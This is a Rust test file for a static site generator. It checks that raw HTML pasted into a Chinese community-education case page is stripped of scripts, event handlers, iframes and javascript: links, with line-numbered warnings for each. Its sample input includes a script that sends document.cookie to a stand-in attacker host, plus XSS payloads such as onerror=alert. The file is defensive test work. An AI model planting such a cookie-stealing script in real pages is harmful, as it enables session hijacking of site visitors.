//! Raw HTML in a page body is sanitised, with a warning naming the line (issue 11, item 11).

mod common;
use common::Site;

const CASE_HEAD: &str = "---\ntitle: 粘贴的案例\nunit: 湖塘镇社区教育中心\ntown: 湖塘镇\n---\n\n";

#[test]
fn scripts_handlers_frames_and_javascript_links_are_not_published() {
    let s = Site::new();
    let body = "开头。\n\n<script>fetch('https://evil.example/?c='+document.cookie)</script>\n\n<p>报名<img src=x onerror=alert(1)></p>\n\n<iframe src=\"https://v.qq.com/txp/iframe/player.html?vid=x\"></iframe>\n\n正文<a href=\"javascript:alert(2)\">点这里</a>，再看[说明](javascript:alert(3))。\n\n<section style=\"margin: 0; color: rgb(62, 62, 62); box-sizing: border-box;\" data-tools=\"135编辑器\"><p style=\"text-align: center;\"><span style=\"font-size: 18px;\"><strong>全民终身学习活动周</strong></span></p><p><span>欢迎参加</span></p></section>\n";
    s.write("content/cases/paste.md", &format!("{CASE_HEAD}{body}"));
    let r = s.build();
    r.ok();
    let html = s.read("cases/paste/index.html");
    for gone in [
        "document.cookie",
        "onerror",
        "alert(",
        "<iframe",
        "javascript:",
    ] {
        assert!(!html.contains(gone), "{gone} is published:\n{html}");
    }
    for kept in [
        "开头。",
        "报名<img src=\"x\">",
        "正文<a rel=\"noopener noreferrer\">点这里</a>，再看说明。",
        "<section style=\"margin:0;color:rgb(62, 62, 62)\">",
        "<p style=\"text-align:center\"><span style=\"font-size:18px\"><strong>全民终身学习活动周</strong></span></p>",
        "<span>欢迎参加</span>",
    ] {
        assert!(html.contains(kept), "{kept} is lost:\n{html}");
    }
    // Body lines: the front matter is 5 lines, a blank, then the body from line 7.
    r.says("content/cases/paste.md:9:1: warning[XZ-W302]: raw HTML here contains a script")
        .says("content/cases/paste.md:11:1: warning[XZ-W302]: raw HTML here contains an event handler")
        .says("content/cases/paste.md:13:1: warning[XZ-W302]: raw HTML here contains an embedded frame")
        .says("content/cases/paste.md:15:3: warning[XZ-W302]: raw HTML here contains a javascript:")
        .says("content/cases/paste.md:15:")
        .says("the link \"javascript:alert(3)\" is not published")
        .says("= help: pages of the site must not run code")
        .says("0 errors, 5 warnings");
    // check finds the same.
    s.check().ok().says("0 errors, 5 warnings");
}
